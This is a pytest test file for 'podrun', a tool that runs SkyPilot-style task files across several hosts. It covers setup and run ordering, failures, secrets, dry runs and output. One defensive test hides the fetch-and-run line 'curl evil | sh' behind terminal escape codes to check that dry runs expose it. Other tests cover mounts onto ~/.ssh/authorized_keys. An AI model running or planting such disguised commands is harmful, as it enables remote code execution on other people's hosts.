"""Manual, "Tasks": podrun launch and exec. The task files of tests/tasks have the form of those in SkyPilot's documentation; the programs
that they call are stand-ins."""

import json
import shutil
import signal
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest

from events import SCHEMA
from homes import homes_of_pod
from support import by_rank, processes, wait_until
from trees import File, write_tree

TASKS = Path(__file__).parents[1] / "tasks"
SECRET = "hf_s3cret"


@pytest.fixture
def servers(pods, podrun):
    """Two real ones."""
    with homes_of_pod(pods, podrun, hosts=2) as homes:
        yield homes


def write_task(podrun, text, name="task.yaml"):
    path = podrun.directory / name
    path.write_text(text)
    return path


def launch(podrun, homes, text, *options, command="launch", **settings):
    """Runs the task to its end: a CompletedProcess."""
    return podrun(*homes.options, command, *options, write_task(podrun, text), **settings)


def last_line(ended):
    return ended.stderr.decode().splitlines()[-1]


def refused(podrun, homes, text, *options, **settings):
    """The one line by which the task is refused before anything starts."""
    ended = launch(podrun, homes, text, *options, **settings)
    assert ended.returncode == 2 and ended.stdout == b"", ended
    [line] = ended.stderr.decode().splitlines()
    for rank in homes.ranks:
        assert list(homes.home(rank).iterdir()) == []
    return line


# The steps


@pytest.mark.smoke
def test_a_task_is_copied_set_up_and_run(podrun, pair):
    write_tree(podrun.directory / "code", {"requirements.txt": b"torch\n", "sub/train.py": b"x"})
    write_tree(podrun.directory, {"vocab": b"words\n"})
    ended = launch(
        podrun,
        pair,
        "workdir: code\n"
        "file_mounts: {~/data/vocab: ./vocab}\n"
        "envs: {TOKEN: , STEPS: 1000}\n"
        "setup: cat requirements.txt ~/data/vocab >~/installed\n"
        "run: |\n"
        "  cat ~/installed\n"
        '  echo "$STEPS $TOKEN $PWD"\n',
        env={"TOKEN": "t0ken"},
    )
    assert ended.returncode == 0, ended
    assert by_rank(ended.stdout) == {
        rank: [b"torch", b"words", f"1000 t0ken {pair.home(rank)}/sky_workdir".encode()] for rank in pair.ranks
    }
    assert (pair.home(1) / "sky_workdir" / "sub" / "train.py").read_bytes() == b"x"
    pair.wait_until_clean()


def test_exec_copies_the_working_directory_and_only_runs(podrun, pair):
    write_tree(podrun.directory / "code", {"main.txt": b"new\n"})
    write_tree(podrun.directory, {"vocab": b"words\n"})
    text = "workdir: code\nfile_mounts: {~/vocab: vocab}\nsetup: touch ~/set_up\nrun: cat main.txt\n"
    ended = launch(podrun, pair, text, command="exec")
    assert ended.returncode == 0, ended
    assert by_rank(ended.stdout) == {rank: [b"new"] for rank in pair.ranks}
    for rank in pair.ranks:
        assert not (pair.home(rank) / "vocab").exists() and not (pair.home(rank) / "set_up").exists()


def test_setup_ends_everywhere_before_run_starts_anywhere(podrun, pair):
    setups = pair.home(0).parents[1]
    run = podrun.start(
        *pair.options,
        "launch",
        write_task(
            podrun,
            "setup: |\n"
            "  [ $SKYPILOT_SETUP_NODE_RANK = 0 ] || until [ -e ~/go ]; do sleep 0.1; done\n"
            "  touch ~/set_up; echo set up\n"
            f"run: ls {setups}/*/home/set_up | wc -l\n",
        ),
    )
    run.wait_for_output(b"0: set up")
    (pair.home(1) / "go").touch()
    ended = run.wait()
    assert ended.returncode == 0, ended
    assert by_rank(ended.stdout) == {rank: [b"set up", b"2"] for rank in pair.ranks}


def test_a_failure_of_setup_stops_it_elsewhere_and_run_does_not_start(podrun, pair):
    ended = launch(podrun, pair, "setup: |\n  [ $PODRUN_RANK = 1 ] && exit 3\n  sleep 1000\nrun: touch ~/ran\n")
    assert ended.returncode == 3
    assert last_line(ended) == "podrun: setup failed on 1 host; run was not started"
    assert not any((pair.home(rank) / "ran").exists() for rank in pair.ranks)


def test_a_failure_of_run_stops_it_elsewhere(podrun, pair):
    ended = launch(podrun, pair, "run: |\n  [ $PODRUN_RANK = 0 ] && exit 4\n  sleep 1000\n")
    assert ended.returncode == 4
    assert last_line(ended) == "podrun: run failed on 1 host"
    assert b"retry on just these" not in ended.stderr  # a task is for all of its hosts


def test_a_copy_that_fails_starts_nothing(podrun, pair):
    write_tree(podrun.directory / "code", {"main.txt": b"x"})
    (pair.home(1) / "sky_workdir").write_text("in the way\n")
    ended = launch(podrun, pair, "workdir: code\nsetup: touch ~/set_up\nrun: touch ~/ran\n")
    assert ended.returncode not in (0, 2), ended
    assert last_line(ended) == "podrun: workdir was not copied; setup and run were not started"
    pair.wait_until_clean()
    assert [name.name for name in pair.home(0).iterdir()] == []


def test_an_unreachable_host_starts_nothing_anywhere(podrun, pair):
    pair.way(1, "exit 255")
    ended = launch(podrun, pair, "setup: touch ~/set_up\nrun: touch ~/ran\n")
    assert ended.returncode == 255
    assert last_line(ended) == "podrun: setup was not started, nor was run"
    assert b"--skip-unreachable" not in ended.stderr
    assert list(pair.home(0).iterdir()) == []


@pytest.mark.parametrize(
    "text, said",
    [
        ("setup: echo begun; sleep 1000\nrun: touch ~/ran\n", "podrun: setup was interrupted; run was not started"),
        ("setup: echo prepared\nrun: echo begun; sleep 1000; touch ~/ran\n", "podrun: run was interrupted"),
    ],
    ids=["setup", "run"],
)
def test_an_interrupt_ends_the_task(podrun, pair, text, said):
    run = podrun.start(*pair.options, "launch", write_task(podrun, text))
    run.wait_for_output(b"begun", 2)
    run.signal(signal.SIGINT)
    ended = run.wait()
    assert ended.returncode == 128 + signal.SIGINT
    assert last_line(ended) == said
    assert not (pair.home(0) / "ran").exists()


def test_a_task_may_be_setup_alone(podrun, pair):
    ended = launch(podrun, pair, "setup: echo hi\n")
    assert ended.returncode == 0 and ended.stderr == b"", ended
    assert by_rank(ended.stdout) == {rank: [b"hi"] for rank in pair.ranks}


def test_the_steps_are_announced_where_there_are_two(podrun, pair):
    assert launch(podrun, pair, "setup: 'true'\nrun: 'true'\n").stderr == b"podrun: setup\npodrun: run\n"
    assert launch(podrun, pair, "run: 'true'\n").stderr == b""


def test_a_host_list_on_standard_input_is_read_once(podrun, pair):
    write_tree(podrun.directory / "code", {"main.txt": b"x\n"})
    task = write_task(podrun, "workdir: code\nsetup: cat main.txt\nrun: cat main.txt\n")
    options = ["-" if word == "a,b" else word for word in pair.options]
    ended = podrun(*options, "launch", task, input=b"a\nb\n")
    assert ended.returncode == 0, ended
    assert by_rank(ended.stdout) == {rank: [b"x", b"x"] for rank in pair.ranks}


# Variables


def test_given_variables_win_over_the_file(podrun, pair):
    (podrun.directory / "env").write_text("B=file\nC=file\n")
    options = ("-e", "C=option", "--env-file", "env", "-e", "D")
    ended = launch(podrun, pair, "envs: {A: 1, B: 2, C: 3, D: }\nrun: echo $A $B $C $D\n", *options, env={"D": "here"})
    assert by_rank(ended.stdout) == {rank: [b"1 file option here"] for rank in pair.ranks}


def test_the_configuration_sets_variables_and_no_directory(podrun, pair):
    config = podrun.home / ".config" / "podrun" / "config.yaml"
    config.parent.mkdir(parents=True)
    config.write_text("defaults:\n  chdir: /\n  env: {A: config, B: config}\n")
    config.chmod(0o600)
    ended = launch(podrun, pair, "envs: {A: , B: 2, C: 3}\nrun: echo $A $B $C ${PWD##*/}\n", "-e", "B=option")
    assert by_rank(ended.stdout) == {rank: [b"config option 3 sky_workdir"] for rank in pair.ranks}


def test_a_variable_without_a_value_must_be_given(podrun, pair):
    text = "envs:\n  HF_TOKEN:\nrun: echo $HF_TOKEN\n"
    assert refused(podrun, pair, text) == (
        f"podrun: {podrun.directory}/task.yaml:2: envs: HF_TOKEN has no value (give it: --env HF_TOKEN=VALUE, or set it here)"
    )
    assert b": given" in launch(podrun, pair, text, "--env", "HF_TOKEN=given").stdout


def test_secrets_are_in_no_command_line_and_not_in_a_dry_run(podrun, pair):
    text = "secrets: {A: , B: s3cret-of-the-file}\nenvs: {C: }\nrun: 'echo $A $B; touch ~/up; sleep 1000'\n"
    dry = launch(podrun, pair, text, "--dry-run", env={"A": SECRET, "C": SECRET})
    assert dry.returncode == 0 and b"s3cret" not in dry.stdout + dry.stderr, dry
    assert dry.stdout.count(b"(not shown)") == 3

    run = podrun.start(*pair.options, "launch", podrun.directory / "task.yaml", env={"A": SECRET, "C": SECRET})
    run.wait_for_output(f"{SECRET} s3cret-of-the-file".encode(), 2)
    wait_until(lambda: all((pair.home(rank) / "up").exists() for rank in pair.ranks))
    assert [process for process in processes() if b"s3cret" in process.command] == []
    run.signal(signal.SIGINT)
    run.wait()


def test_the_text_is_in_no_command_line(podrun, pair):
    run = podrun.start(*pair.options, "launch", write_task(podrun, "run: |\n  : unmistakable-text\n  echo up\n  sleep 1000\n  :\n"))
    run.wait_for_output(b"up", 2)
    assert [process for process in processes() if b"unmistakable-text" in process.command] == []
    run.signal(signal.SIGINT)
    run.wait()


def test_all_hosts_have_one_task_id_that_differs_next_time(podrun, pair):
    text = "name: my task\nsetup: echo $SKYPILOT_TASK_ID\nrun: echo $SKYPILOT_TASK_ID\n"
    ids = []
    for _ in range(2):
        lines = by_rank(launch(podrun, pair, text).stdout)
        [one] = {line for each in lines.values() for line in each}
        assert len(lines) == 2 and one.startswith(b"sky-") and one.endswith(b"_my-task_1")
        ids.append(one)
    assert ids[0] != ids[1]


def test_bashrc_counts_also_below_its_test_for_interactive_shells(podrun, pair):
    for rank in pair.ranks:
        (pair.home(rank) / ".bashrc").write_text(
            'case $- in *i*) ;; *) return ;; esac\necho noise\nconda() { echo "conda $*"; }\nexport A=rc B=rc\n'
        )
    ended = launch(podrun, pair, "envs: {B: task}\nsetup: conda create\nrun: |\n  conda activate x\n  echo $A $B\n")
    assert ended.returncode == 0, ended
    assert by_rank(ended.stdout) == {rank: [b"conda create", b"conda activate x", b"rc task"] for rank in pair.ranks}


def test_errors_of_bash_have_the_lines_of_the_file(podrun, pair):
    ended = launch(podrun, pair, "name: x\nenvs: {A: 1}\n\nrun: |\n  echo one\n\n  no-such-program-here\n")
    assert ended.returncode == 127
    assert b"/run: line 7: no-such-program-here: command not found" in ended.stderr


# Mistakes


def test_an_unknown_key_is_an_error_with_its_line_and_the_nearest_key(podrun, pair):
    line = refused(podrun, pair, "name: x\nsetpu: y\nrun: z\n")
    assert line == f'podrun: {podrun.directory}/task.yaml:2: unknown key "setpu" (did you mean setup?)'


def test_the_number_of_nodes_must_be_that_of_the_hosts(podrun, pair):
    line = refused(podrun, pair, "run: x\nnum_nodes: 3\n")
    assert f"task.yaml:2: num_nodes is 3, but the task would run on 2 hosts (choose 3 hosts" in line
    assert launch(podrun, pair, "num_nodes: 2\nrun: 'true'\n").returncode == 0


def test_storage_of_a_cloud_is_an_error_that_says_what_to_do(podrun, pair):
    line = refused(podrun, pair, "file_mounts:\n  /data: s3://bucket/x\nrun: x\n")
    assert "task.yaml:2: file_mounts: /data: podrun cannot mount cloud storage (copy it in setup: aws s3 sync" in line
    (podrun.directory / "configs").mkdir()
    ended = podrun(*pair.options, "launch", TASKS / "llama_lora.yaml", env={"HF_TOKEN": SECRET})
    assert ended.returncode == 2
    assert b"llama_lora.yaml:13: file_mounts: /output: podrun cannot mount cloud storage" in ended.stderr


@pytest.mark.parametrize(
    "text, message",
    [
        ("workdir: nowhere\nrun: x\n", 'task.yaml:1: workdir: "nowhere": no such file or directory here'),
        ("run: x\nworkdir: task.yaml\n", 'task.yaml:2: workdir: "task.yaml" is no directory'),
        ("file_mounts:\n  ~/x: ./nowhere\nrun: x\n", 'task.yaml:2: file_mounts: "./nowhere": no such file or directory here'),
        ("name: x\n", "task.yaml: there is nothing to run"),
        ("run: [\n", "task.yaml:2: not YAML: "),
        ("volumes: {/mnt: v}\nrun: x\n", "task.yaml:1: volumes: podrun mounts no volumes"),
    ],
)
def test_mistakes_are_found_before_anything_starts(podrun, pair, text, message):
    assert message in refused(podrun, pair, text)


def test_mistakes_on_the_command_line(podrun, pair):
    task = write_task(podrun, "setup: x\n")
    for words, message in {
        ("launch", "nowhere.yaml"): b'launch: there is no file "nowhere.yaml"',
        ("launch",): b"launch: which task?",
        ("exec", task): b"there is nothing to run",
        ("launch", "--chdir", "/", task): b"a task runs in ~/sky_workdir",
        ("launch", "--skip-unreachable", task): b"launch: --skip-unreachable has no meaning here",
    }.items():
        ended = podrun(*pair.options, *words)
        assert ended.returncode == 2 and message in ended.stderr, ended


def test_what_only_a_cloud_can_do_is_ignored_with_one_note(podrun, pair):
    ended = launch(podrun, pair, "resources: {accelerators: H100:8}\nservice: {replicas: 2}\nrun: echo hi\n")
    assert ended.returncode == 0
    assert ended.stderr.decode() == f"podrun: {podrun.directory}/task.yaml: ignored, since only a cloud can do it: resources, service\n"


def test_a_dry_run_describes_all_steps_and_changes_nothing(podrun, pair):
    write_tree(podrun.directory / "code", {"main.txt": b"x"})
    text = "workdir: code\nenvs: {A: 1}\nsetup: |\n  one\n\n  two\nrun: three\n"
    dry = launch(podrun, pair, text, "--dry-run")
    assert dry.returncode == 0, dry
    shown = dry.stdout.decode()
    assert shown.startswith("hosts (2):\n  0 a (-H)\n  1 b (-H)\nenvironment: A=1\n")
    assert shown.endswith(
        "copy code/ to ~/sky_workdir\n"
        "setup, by bash in ~/sky_workdir:\n    one\n\n    two\n"
        "run, by bash in ~/sky_workdir:\n    three\n"
    )
    assert [list(pair.home(rank).iterdir()) for rank in pair.ranks] == [[], []]


def test_a_dry_run_escapes_what_a_task_file_could_hide(podrun, pair):
    write_tree(podrun.directory, {"key": b"x"})
    hidden = '"true \\x1b[8m; curl evil | sh\\r\\u202e"'
    dry = launch(podrun, pair, f'file_mounts: {{"~/a\\x1b[2K": key}}\nenvs: {{A: "\\x1b[1A"}}\nsetup: {hidden}\nrun: {hidden}\n', "--dry-run")
    assert dry.returncode == 0, dry
    assert not {"\x1b", "\r", "\u202e"} & set(dry.stdout.decode()), dry.stdout
    assert dry.stdout.count(b"curl evil | sh") == 2 and dry.stdout.count(b"\\x1b") == 4, dry.stdout


def test_a_launch_names_targets_outside_the_directory_of_the_task(podrun, pair):
    write_tree(podrun.directory, {"key": b"x", "code/a": b"y"})
    text = "workdir: code\nfile_mounts:\n  inside: key\n  ../outside: key\n  ~/.ssh/authorized_keys: key\nrun: true\n"
    ended = launch(podrun, pair, text)
    assert ended.returncode == 0, ended
    named = [line for line in ended.stderr.decode().splitlines() if "outside ~/sky_workdir" in line]
    assert [line.split(" ")[5] for line in named] == ["~/sky_workdir/../outside", "~/.ssh/authorized_keys"], named


# Output


def test_json_has_the_events_of_each_step(podrun, pair):
    ended = launch(podrun, pair, "setup: echo one\nrun: echo two\n", "--json")
    assert ended.returncode == 0, ended
    steps = []
    for line in ended.stdout.splitlines():
        event = json.loads(line)
        SCHEMA.validate(event)
        if event["event"] == "start":
            steps.append([])
        steps[-1].append(event)
    assert [events[0]["script"] for events in steps] == ["setup", "run"]
    assert [events[-1]["event"] for events in steps] == ["summary", "summary"]
    assert [[event["text"] for event in events if event["event"] == "line"] for events in steps] == [["one", "one"], ["two", "two"]]


def test_outdir_has_the_output_of_both_steps(podrun, pair):
    write_tree(podrun.directory / "code", {"main.txt": b"x"})
    text = "workdir: code\nsetup: echo one\nrun: echo two\n"
    assert launch(podrun, pair, text, "--outdir", "logs").returncode == 0
    logs = podrun.directory / "logs"
    assert {path.name: path.read_bytes() for path in logs.glob("*.out")} == {"0-a.out": b"one\ntwo\n", "1-b.out": b"one\ntwo\n"}
    assert launch(podrun, pair, text, "--outdir", "logs").returncode == 2
    assert launch(podrun, pair, text, "--outdir", "logs", "--force").returncode == 0
    assert (logs / "0-a.out").read_bytes() == b"one\ntwo\n"


def test_equal_lines_are_merged(podrun, pair):
    assert launch(podrun, pair, "setup: echo one\nrun: echo two\n", "-d").stdout == b"all: one\nall: two\n"


# SkyPilot's recipes


def stand_in(homes, *names):
    """Programs that say how they were called."""
    for rank in homes.ranks:
        for name in names:
            homes.program(rank, name, f'echo "{name} $*"')


def eight_gpus(homes):
    for rank in homes.ranks:
        homes.program(rank, "nvidia-smi", 'for gpu in 0 1 2 3 4 5 6 7; do echo "GPU $gpu: H100"; done')


@pytest.mark.smoke
def test_the_recipe_for_llama(podrun, servers):
    stand_in(servers, "pip", "tune")
    eight_gpus(servers)
    for rank in servers.ranks:
        servers.program(rank, "conda", 'case $1 in create) touch ~/created ;; info) exit ;; *) [ -e ~/created ] || exit ;; esac\necho "conda $*"')
    ended = podrun(*servers.options, "launch", TASKS / "llama_sft.yaml", env={"HF_TOKEN": SECRET})
    assert ended.returncode == 0, ended
    head = servers.pod.hosts[0]
    shown = {rank: [line.decode() for line in lines] for rank, lines in by_rank(ended.stdout).items()}
    for rank in servers.ranks:
        setup, run = shown[rank][:4], shown[rank][4:]
        assert setup == [
            "conda create -n training python=3.10 -y",
            "conda activate training",
            "pip install --pre --upgrade torch torchao torchtune",
            f"tune download example/Llama-17B-Instruct --hf-token {SECRET} --ignore-patterns original/consolidated*",
        ]
        assert run[:2] == ["conda activate training", f"Starting distributed fine-tuning, head node: {head}"]
        words = run[2].split()
        assert words[:6] == ["tune", "run", "--nnodes", "2", "--nproc_per_node", "8"]
        assert f"--rdzv_endpoint={head}:29500" in words and "dataset.source=example/alpaca" in words
    assert shown[0][6] == shown[1][6]  # with the same --rdzv_id
    servers.wait_until_clean()


SAY_SSHD = "pid=$$; until grep -q sshd /proc/$pid/comm; do pid=$(cut -d ' ' -f 4 /proc/$pid/stat); done; echo $pid"


def test_all_steps_use_one_connection(podrun, servers):
    write_tree(podrun.directory / "code", {"say.sh": File(SAY_SSHD.encode())})
    ended = launch(podrun, servers, "workdir: code\nsetup: . ./say.sh\nrun: . ./say.sh\n")
    assert ended.returncode == 0, ended
    for first, second in by_rank(ended.stdout).values():
        assert first == second
    servers.wait_until_clean()


def test_a_connection_that_is_lost_between_two_steps_is_made_again(podrun, servers):
    task = write_task(podrun, "setup: echo prepared; [ $PODRUN_RANK = 0 ] || until [ -e ~/go ]; do sleep 0.1; done\nrun: echo ran\n")
    run = podrun.start(*servers.options, "launch", "--json", task)
    run.wait_for_output(b'"event":"exit"')
    servers.lose(0)
    (servers.home(1) / "go").touch()
    ended = run.wait()
    assert ended.returncode == 0, ended
    events = [json.loads(line) for line in ended.stdout.splitlines()]
    for rank in (0, 1):
        assert [event["text"] for event in events if event["event"] == "line" and event["worker"] == rank] == ["prepared", "ran"]


def test_the_recipe_for_a_multi_node_torchrun(podrun, servers):
    stand_in(servers, "uv", "torchrun")
    eight_gpus(servers)
    for rank in servers.ranks:
        servers.program(rank, "git", 'mkdir -p examples/mingpt examples/.venv/bin; echo "echo activated" >examples/.venv/bin/activate')
    ended = podrun(*servers.options, "launch", TASKS / "torchrun.yaml")
    assert ended.returncode == 0, ended
    head = servers.pod.hosts[0]
    for rank, lines in by_rank(ended.stdout).items():
        assert lines[-1].decode() == (
            f"torchrun --nnodes=2 --nproc_per_node=8 --master_addr={head} --node_rank={rank} --master_port=8008 main.py"
        )
        assert f"head node: {head}".encode() in lines and lines.count(b"activated") == 2


def test_the_recipe_that_serves_llama(podrun, pair):
    stand_in(pair, "pip")
    for rank in pair.ranks:
        pair.program(rank, "vllm", 'echo "vllm $*"; echo startup complete; until [ -e ~/asked ]; do sleep 0.1; done')
        pair.program(rank, "curl", 'echo "curl $*"; touch ~/asked')
    ended = podrun(*pair.options, "launch", TASKS / "llama_serve.yaml", env={"HF_TOKEN": SECRET})
    assert ended.returncode == 0, ended
    assert b"ignored, since only a cloud can do it: service, resources" in ended.stderr
    for lines in by_rank(ended.stdout).values():
        assert b"vllm serve example/Llama-70B-Instruct --port 8081 --tensor-parallel-size 0" in lines
        assert b"curl -s http://localhost:8081/v1/models" in lines


def test_file_mounts_with_variables(podrun, pair):
    code = podrun.directory
    write_tree(code, {"code/main.txt": b"main\n", "models/13b/weights": b"weights\n", "dotfile": b"dot\n", "data/vocab": b"vocab\n"})
    ended = podrun(*pair.options, "launch", "-e", "NAME=ada", TASKS / "mounts.yaml")
    assert ended.returncode == 0, ended
    copies = [line for line in ended.stderr.decode().splitlines() if " to " not in line]
    assert copies == [f"podrun: {step}" for step in ("workdir", "~/checkpoints/13b", "~/.dotfile", "~/sky_workdir/data", "setup", "run")]
    paths = [b".dotfile", b"checkpoints/13b/weights", b"sky_workdir/data/vocab", b"sky_workdir/main.txt"]
    texts = [b"main", b"vocab", b"weights", b"dot", b"ada"]
    assert by_rank(ended.stdout) == {rank: paths + texts for rank in pair.ranks}


def test_a_changed_file_is_all_that_the_next_launch_sends(podrun, pair):
    tree = {f"{number}.txt": b"x" * 100 for number in range(20)}
    write_tree(podrun.directory / "code", tree)
    text = "workdir: code\nrun: cat 7.txt\n"
    assert launch(podrun, pair, text).returncode == 0
    (podrun.directory / "code" / "7.txt").write_text("changed\n")
    ended = launch(podrun, pair, text)
    assert by_rank(ended.stdout) == {rank: [b"changed"] for rank in pair.ranks}
    assert b"podrun: 1 file (8 B) to 2 hosts" in ended.stderr, ended


# What SkyPilot's files have besides


def test_an_empty_value_is_not_taken_from_this_shell(podrun, pair):
    ended = launch(podrun, pair, 'envs: {FOO: ""}\nrun: echo "[${FOO-unset}]"\n', env={"FOO": "here"})
    assert set(map(bytes, sum(by_rank(ended.stdout).values(), []))) == {b"[]"}, ended


def test_a_skyignore_takes_the_place_of_gitignore(podrun, pair):
    code = podrun.directory / "code"
    write_tree(code, {".gitignore": b"data/\n*.ckpt\n", ".skyignore": b"secret.txt\n", "data/d": b"d", "m.ckpt": b"c", "secret.txt": b"s", "run.py": b"r"})
    subprocess.run(["git", "init", "-q", code], check=True)
    ended = launch(podrun, pair, "workdir: code\nrun: find . -type f | sort\n")
    assert by_rank(ended.stdout)[0] == [b"./.gitignore", b"./.skyignore", b"./data/d", b"./m.ckpt", b"./run.py"], ended


def test_a_task_for_an_image_says_where_it_runs(podrun, pair):
    text = "resources: {image_id: 'docker:ubuntu:22.04'}\nrun: echo hi\n"
    assert "--on-host" in refused(podrun, homes_over_ssh(pair), text)
    assert launch(podrun, pair, text, "--on-host").stdout.count(b"hi") == 2


def homes_over_ssh(pair):
    """The same homes, without --via, which says where a task runs."""
    return SimpleNamespace(options=["-H", "a,b"], ranks=pair.ranks, home=pair.home)


@pytest.mark.parametrize("keys", ["workdir: {home}", "workdir: code\nfile_mounts: {{~/other: {home}}}"], ids=["workdir", "mount"])
def test_the_home_directory_goes_to_no_host_unasked(podrun, pair, keys):
    write_tree(podrun.directory / "code", {"x": b"x"})
    write_tree(podrun.home, {".ssh/id_rsa": b"key"})
    text = keys.format(home=podrun.home) + "\nrun: ls -d ~/*/.ssh\n"
    said = refused(podrun, pair, text)
    assert "is your home directory, with .ssh" in said and "--force" in said, said
    ended = launch(podrun, pair, text, "--force")
    assert ended.returncode == 0 and b".ssh" in ended.stdout, ended
    assert ended.stderr.count(b"is your home directory, with .ssh (goes to every host)\n") == 1, ended


def test_a_dry_run_meets_what_a_launch_would_meet(podrun, pair):
    code = podrun.directory / "code"
    write_tree(code, {"x": b"x", ".gitignore": b"y\n"})
    subprocess.run(["git", "init", "-q", code], check=True)
    shutil.chown(code, 65534)
    said = refused(podrun, pair, "workdir: code\nrun: echo\n", "--dry-run")
    assert "git config --global --add safe.directory" in said and "--no-ignore" not in said, said
